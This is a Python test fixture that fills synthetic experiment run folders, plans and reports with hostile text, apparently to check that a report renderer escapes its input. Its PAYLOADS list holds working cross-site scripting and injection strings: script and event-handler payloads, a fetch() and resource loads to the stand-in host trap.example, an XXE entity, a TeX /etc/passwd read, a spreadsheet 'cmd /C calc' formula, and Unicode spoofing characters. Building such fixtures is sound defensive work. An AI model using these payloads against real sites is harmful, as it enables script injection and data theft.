"""Run folders whose every text comes from an enemy, and their twin, in which the same places hold plain words.

    runs = write_hostile(folder, PAYLOADS)       # or plain_words(len(PAYLOADS))

Every address in the payloads is of HOST, so that a browser in which that host is a trap hears of any request.
"""

from __future__ import annotations

import csv
import itertools
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import yaml
from synthetic_runs import CONFIG, FULL_CARD, audit_rows, final_numbers, write_run

HOST = "trap.example"
RUN = "document.title='owned';window.owned=1;alert(1);fetch('http://trap.example/')"
PAYLOADS = (
    # scripts and what runs one
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    '<script src="http://trap.example/x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus tabindex=1 onfocus=\"{RUN}\" x='",
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    '<svg><image href="http://trap.example/x.svg"/><use href="http://trap.example/y.svg#z"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<iframe src="http://trap.example/frame"></iframe>',
    '<object data="http://trap.example/x"></object><embed src="http://trap.example/y">',
    # links, addresses, pictures
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" jav&#x09;ascript:{RUN}">x</a>',
    "<img src='http://trap.example/pixel.png' srcset='//trap.example/2x.png 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<video src='http://trap.example/x.mp4' poster='http://trap.example/y.png' autoplay></video>",
    "<link rel=stylesheet href='http://trap.example/x.css'><link rel=prefetch href='//trap.example/y'>",
    "<meta http-equiv=refresh content='0;url=http://trap.example/'>",
    "<base href='http://trap.example/'>",
    "<form action='http://trap.example/'><input autofocus name=x><button>go</button></form>",
    # styles and structure
    "<style>@import 'http://trap.example/x.css'; body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(http://trap.example/b.png)'>over all</div>",
    "</style><style>*{background:url(//trap.example/c.png)}</style>",
    "</td></tr></table></main></body><h2>Forged</h2><table><tr><td>",
    "<p id='section-1' class='verdict supported'>Supported.</p>",
    f"<!--><script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"]]><![CDATA[<script>{RUN}</script>]]>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'http://trap.example/x'>]>&x;<?xml-stylesheet href='//trap.example/s'?>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#x202e; &amp;lt;",
    "{{ 7 * 7 }}{% for x in () %}${7*7}<%= 7 %>{0}%s",
    # Markdown, TeX, mathtext, spreadsheets, terminals
    "[x](javascript:alert(1)) ![x](http://trap.example/md.png) <http://trap.example/a> http://trap.example/b",
    "# heading\n\n| a | b |\n|---|---|\n| `code` | **bold** |\n\n```html\n<script>1</script>\n```\n- item\n1. item",
    "$\\href{javascript:alert(1)}{x}$ $$\\frac{1}{$ \\(\\unicode{x}\\) \\input{/etc/passwd} $a_",
    "=HYPERLINK(\"http://trap.example/\",\"x\")\t@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x1b]8;;http://trap.example\x07link\x1b]8;;\x07\r\b\b\b",
    # letters
    "\u202egnp.elif\u202c \u2066hidden\u2069 \u061c\u200f",
    "\u0455upported\u200b\u200c\u200d\u2060\ufeff \u0430lpha \uff1cscript\uff1e \u3164\u2800\u00ad",
    "half \ud800 and \udfff of a pair, \ufffe \U0001ffff no character, \ue000 private",
    "Z" + "\u0301\u0336\u20dd" * 300,
    "\x00\x01\x02 nul \x7f\x85\u2028line\u2029paragraph\x0b\x0c",
    "\U0001f469\u200d\U0001f680 \u4f60\u597d \u05e9\u05dc\u05d5\u05dd \u0e01\u0e33 \U000e0041\U000e007f",
    "../../../../x/../y\\..\\z:con|nul?*",
    "X" * 100_000,
    "<b>" * 30_000,
)  # fmt: skip
TAGS_OF_NOTE = "A *note* by hand, with a list:\n\n- one\n- two\n\n"
PARAMETERS = """data_folder: str = ""  # a data-prep run folder
alpha: float = 0.5  # weight of the cosine term, in [0, 1]
temperature: float = 1.0  # of it
remark: str = ""  # free text
model_name: str = ""  # free text
teacher: str = ""  # free text
divergence: str = "none"  # free text
smoothing: str = "none"  # free text
smoothed_over: str = ""  # free text
kd_reduction: str = "token"  # free text
method: str = ""  # free text
judge: str = ""  # free text
second_judge: str = ""  # free text
prompts_per_round: int = 8  # of an interaction
max_steps: int = 200  # optimiser steps
seed: int = 42  # weights and data order
run_folder: str = ""  # where results go"""
STEPS = (1, 20, 40, 60)
SEEDS = (1, 2)
EVERY = 27  # of the texts one is an arm of its own; each is in all that is only listed
WEEK, WEEK_BEFORE = "2026-W47", "2026-W46"


def plain_words(many: int) -> list[str]:
    """Harmless texts, no two alike."""
    return [f"plain words no. {number}" for number in range(many)]


def numbered(texts: Sequence[str]) -> list[str]:
    """`texts` as the run folders hold them: with a number, so that the names of variants differ."""
    return [f"{text} {number}" if len(text) < 1000 else f"{number} {text}" for number, text in enumerate(texts)]


def write_hostile(folder: Path, texts: Sequence[str]) -> Path:
    """The runs folder, with `reports` beside it: plans, runs, notes and an earlier report in which all text is `texts`.

    One plan has a variant for each text and failures of each; others have no file, and names that are texts too.
    """
    own, runs, plan_folder = numbered(texts), folder / "runs", folder / "runs" / "toy"
    plan_folder.mkdir(parents=True)
    _write_plan(folder, plan_folder, own)
    for number, text in enumerate(own):
        _write_data(folder, number, own)
        _write_failure(folder, plan_folder, number, text)
    for number in range(0, len(own), EVERY):
        for seed, alpha in itertools.product(SEEDS, (0.0, 0.5) if number == 0 else (0.5,)):
            _write_run(folder, plan_folder, number, seed, alpha, own)
    _write_without_plan(runs, own)
    _write_reports(folder / "reports", own)
    return runs


def _at(texts: Sequence[str], place: int) -> str:
    return texts[place % len(texts)]


def _write_plan(folder: Path, plan_folder: Path, texts: Sequence[str]) -> None:
    cell = {"cell_type": "code", "metadata": {"tags": ["parameters"]}, "source": PARAMETERS, "outputs": []}
    cells = [cell | {"id": "parameters", "execution_count": None}]
    (folder / "study.ipynb").write_text(
        json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
    )
    notebook = str(folder / "study.ipynb")
    arms = list(texts)[::EVERY]
    mixing = {"alpha": [0.0, 0.5], "remark": arms, "seed": list(SEEDS)}
    stages = [
        {"name": "mixing", "notebook": notebook, "matrix": mixing,
         "only": [{"alpha": 0.0, "remark": texts[0]}, {"alpha": 0.5}], "params": _settings(texts)},
        {"name": "broken", "notebook": notebook, "matrix": {"remark": list(texts)}},
    ]  # fmt: skip
    contrasts = [
        {"name": text, "question": text, "stage": "mixing", "better": "lower", "claim": "better",
         "metric": texts[number] if number in (3, 4) else "test_ce_loss", "smallest_effect": 0.01,
         "treatment": {"alpha": 0.5, "remark": _at(arms, number)}, "control": {"alpha": 0.0, "remark": texts[0]},
         "primary": number == 0}
        for number, text in enumerate(texts)
    ]  # fmt: skip
    plan = {"name": "toy", "stages": stages, "contrasts": contrasts}
    (plan_folder / "plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))


def _settings(texts: Sequence[str]) -> dict[str, Any]:
    return {"model_name": texts[5], "teacher": texts[6], "divergence": texts[7], "smoothing": texts[8],
            "smoothed_over": texts[9], "kd_reduction": texts[10], "method": "simpo_judge", "judge": texts[12],
            "second_judge": texts[13], "prompts_per_round": 8}  # fmt: skip


def _write_data(folder: Path, number: int, texts: Sequence[str]) -> None:
    """A prepared data set of its own for each text."""
    text = texts[number]
    counts = {"documents": 5, "tokens": 50, "bytes": 500, "blocks": 2}
    card = FULL_CARD | {"dataset_name": text, "fingerprint": text, "seen_by_base_model": text, "fallback_taken": text}
    card |= {"config": dict.fromkeys(("dataset_name", "dataset_config_name", "text_field"), text), "task": text}
    card |= {"stages": [{"stage": text, "documents": 5}], "splits": {text: counts}, "unigram_ce": {text: 6.2}}
    card |= {"leakage": {text: {"ngram_share": 0.1}}, "vocab_size": text, "block_size": text}
    place = folder / "prepared" / str(number) / "data"
    place.mkdir(parents=True)
    (place / "card.json").write_text(json.dumps(card))


def _write_run(folder: Path, plan_folder: Path, number: int, seed: int, alpha: float, texts: Sequence[str]) -> None:
    matrix = {"alpha": alpha, "remark": texts[number], "seed": seed}
    numbers = final_numbers(alpha, seed, number) | {texts[3]: 1.0 + number, texts[4]: 2.0, f"eval_{texts[11]}": 1.0}
    numbers |= {"teacher_test_ce_loss": 3.9, "test_bleu": 0.5, "test_kl_to_teacher": 0.4, "effective_smoothing": 0.1}
    params = {"data_folder": "", "temperature": 1.0, "max_steps": 200, **_settings(texts), **matrix}
    numbers |= {"test_judge_score": 0.5, "test_second_judge_score": 0.4, f"test_judge_{texts[14]}": 0.6}
    numbers |= {"judge_failure_rate": 0.5, "judges_agreement": 0.1, "judge_length_correlation": 0.9}
    numbers |= dict.fromkeys(("human_words", "student_words", "teacher_words"), 10.0 * (number + 1))
    text = texts[number]
    run = write_run(
        plan_folder, "mixing", matrix, numbers, params=params,
        inputs=_inputs(folder, number, text),
        hardware={"machine": text, "processor": text, "cores": text, "threads": 1, "memory_gib": text, "gpus": [text]},
        packages={"python": text, "torch": text, text: text}, notebook=text, key=text, data_fingerprint=text,
        source={"git_commit": text, "git_dirty": False, "notebook_sha256": text, "nbutils_sha256": "b" * 64},
    )  # fmt: skip
    _write_metrics(run, numbers, texts)
    audit = [row | {"term": _as_utf8(text)} if row["term"] == "cosine" else row for row in audit_rows(alpha)]
    pd.DataFrame(audit).to_csv(run / "audit.csv", index=False)
    bins = np.arange(5)
    calibration = {
        "split": "test",
        "bin": bins,
        "tokens": 100,
        "confidence_sum": 10.0 * bins,
        "correct_sum": 9.0 * bins,
    }
    pd.DataFrame(calibration).to_csv(run / "calibration.csv", index=False)
    (run / "model").mkdir()
    (run / "model" / "config.json").write_text(json.dumps(CONFIG | {"model_type": text, "n_inner": text}))
    _write_texts(run, number, texts)
    _write_rounds(run, number, texts)
    if number % 54 == 27 and seed == SEEDS[-1]:
        _write_later_attempt(plan_folder, run.name, text)


def _inputs(folder: Path, number: int, text: str) -> dict[str, Any]:
    return {"data_folder": {"folder": str(folder / "prepared" / str(number)), "fingerprint": text}}


def _write_metrics(run: Path, numbers: dict[str, float], texts: Sequence[str]) -> None:
    columns = ["step", "loss", "ce_loss", "eval_ce_loss", "eval_perplexity", "eval_cosine", f"{texts[0]}_loss"]
    columns.append(f"{texts[40]}_loss")
    with (run / "metrics.csv").open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(map(_as_utf8, columns))
        for step in STEPS:
            ce = numbers["eval_ce_loss"] + 3 * np.exp(-step / 40)
            rows.writerow([step, ce, ce, ce, np.exp(ce), 0.3, 0.1, 0.2])


def _write_texts(run: Path, number: int, texts: Sequence[str]) -> None:
    """Samples, answers, examples of targets and items of tasks: all that a model or a data set says."""
    samples = []
    for place in range(6):
        at = [_at(texts, place + 6 * field) for field in range(2)] + [_at(texts, 12 + place + 6 * number)]
        sample = {"prompt": at[0], "reference": at[1], "completion": at[2], "document": place}
        samples += [sample | {"sampler": sampler} for sampler in ("as trained", "un-smoothed")]
    (run / "samples.jsonl").write_text("".join(json.dumps(sample) + "\n" for sample in samples))
    rows = [
        {"split": "test", "document": place, "question": _as_utf8(_at(texts, place)), "bleu": 0.1 * place,
         "reference": _as_utf8(_at(texts, place + 10)), "answer": _as_utf8(_at(texts, place + 20 + number)),
         "exact_match": 0.0, "token_f1": 0.5}
        for place in range(9)
    ]  # fmt: skip
    pd.DataFrame(rows).to_parquet(run / "answers.parquet")
    signatures = dict(zip(("bleu", "chrf"), (texts[number], _at(texts, number + 1)), strict=True))
    (run / "answers.json").write_text(json.dumps({"signatures": signatures}))
    targets = [
        {"gold": text, "tokens": [_at(texts, place + 1), text], "weights": [0.2, 0.7]}
        for place, text in enumerate(texts[number : number + 3] or texts[:1])
    ]
    (run / "targets.json").write_text(json.dumps(targets))
    items = [
        {"step": 1, "task": _as_utf8(text), "item": str(item), "correct": 1.0, "correct_norm": 0.0, "gold_bits": 8.0,
         "gold_bytes": 4.0, "choices": 4}
        for text in texts
        for item in range(2)
    ]  # fmt: skip
    pd.DataFrame(items).to_parquet(run / "harness.parquet")


def _write_rounds(run: Path, number: int, texts: Sequence[str]) -> None:
    """What a student wrote in rounds, and what judge and teacher said of it; some of it is of the wrong type."""
    columns = ["round", "reward", "kl", "scored", "failures", "human_words", "student_words", "teacher_words"]
    with (run / "rounds.csv").open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(map(_as_utf8, [*columns, texts[15]]))
        for place in range(1, 4):
            rows.writerow([place, 0.2 * place, 0.1 * place, 4, 4, *[10 * place] * 3, _as_utf8(texts[16])])
        rows.writerow(map(_as_utf8, [texts[17]] * len([*columns, ""])))
    samples: list[Any] = [[], None, {"round": texts[18]}]
    for place in range(1, 4):
        at = [_at(texts, number + 3 * place + field) for field in range(4)]
        told = dict(zip(("prompt", "completion", "correction", "raw"), at, strict=True))
        samples.append({"round": place, **told, "score": None if place == 2 else at[0] if place == 3 else 0.5})
    (run / "round_samples.jsonl").write_text("".join(json.dumps(each) + "\n" for each in samples))
    judged = [{"prompt": texts[number], "completion": texts[number], "judge": texts[number], "second_judge": 0.5}, None]
    (run / "judged.jsonl").write_text("".join(json.dumps(each) + "\n" for each in judged))


def _as_utf8(text: str) -> str:
    """`text` for a file that cannot hold half a character."""
    return text.encode("utf-8", "backslashreplace").decode()


def _error(text: str) -> dict[str, Any]:
    return {"type": text, "message": text, "cell": text, "log": [text] * 3}


def _write_failure(folder: Path, plan_folder: Path, number: int, text: str) -> None:
    states = ("failed", "killed", "preempted")
    changes = {"status": states[number % 3], "exit_code": 1, "error": _error(text), "notebook": text}
    changes["inputs"] = _inputs(folder, number, text)
    write_run(plan_folder, "broken", {"remark": text}, {}, **changes)


def _write_later_attempt(plan_folder: Path, variant: str, text: str) -> None:
    """A second try at a finished run, which failed."""
    manifest = json.loads((plan_folder / variant / "manifest.json").read_text())
    manifest |= {"status": "failed", "exit_code": 1, "error": _error(text)}
    manifest["attempts"] = [*manifest["attempts"], manifest["attempts"][0] | {"status": "failed", "exit_code": 1}]
    folder = plan_folder / ".attempts" / variant
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text(json.dumps(manifest))


def _write_without_plan(runs: Path, texts: Sequence[str]) -> None:
    """Runs whose manifests name a plan, a stage and a variant that no file could have; most of them failed."""
    for number, text in enumerate(texts):
        matrix = {text: text, "seed": 1}
        named = {"plan": texts[0], "stage": "mixed", "variant": text, "matrix": matrix, "params": {text: text}}
        named |= {"stage": texts[1]} if number == 0 else {"status": "failed", "error": _error(text)}
        state = "finished" if number == 0 else "failed"
        run = write_run(runs / "by-hand", f"stage-{number}", {}, final_numbers(0.5, 1, 0), status=state)
        manifest = json.loads((run / "manifest.json").read_text())
        (run / "manifest.json").write_text(json.dumps(manifest | named))
        if number in (17, 30, 49):  # a plan of its own, with failures alone
            (run / "manifest.json").write_text(json.dumps(manifest | named | {"plan": text}))


def _write_reports(folder: Path, texts: Sequence[str]) -> None:
    """The week's note, and the numbers of the week before."""
    (folder / "notes").mkdir(parents=True)
    paragraphs = "\n\n".join(f"{_as_utf8(text[:300])}" for text in texts)
    (folder / "notes" / f"{WEEK}.md").write_text(f"{TAGS_OF_NOTE}{paragraphs}\n", encoding="utf-8")
    arms = {"toy-mixing": {text: {"test_ce_loss": 1.0} for text in texts}}
    before = {"week": texts[0], "arms": arms, "runs": {text: {"state": "finished", "finished": text} for text in texts}}
    before["verdicts"] = {f"toy: {text}": {"outcome": text} for text in texts}
    (folder / f"{WEEK_BEFORE}.json").write_text(json.dumps(before))
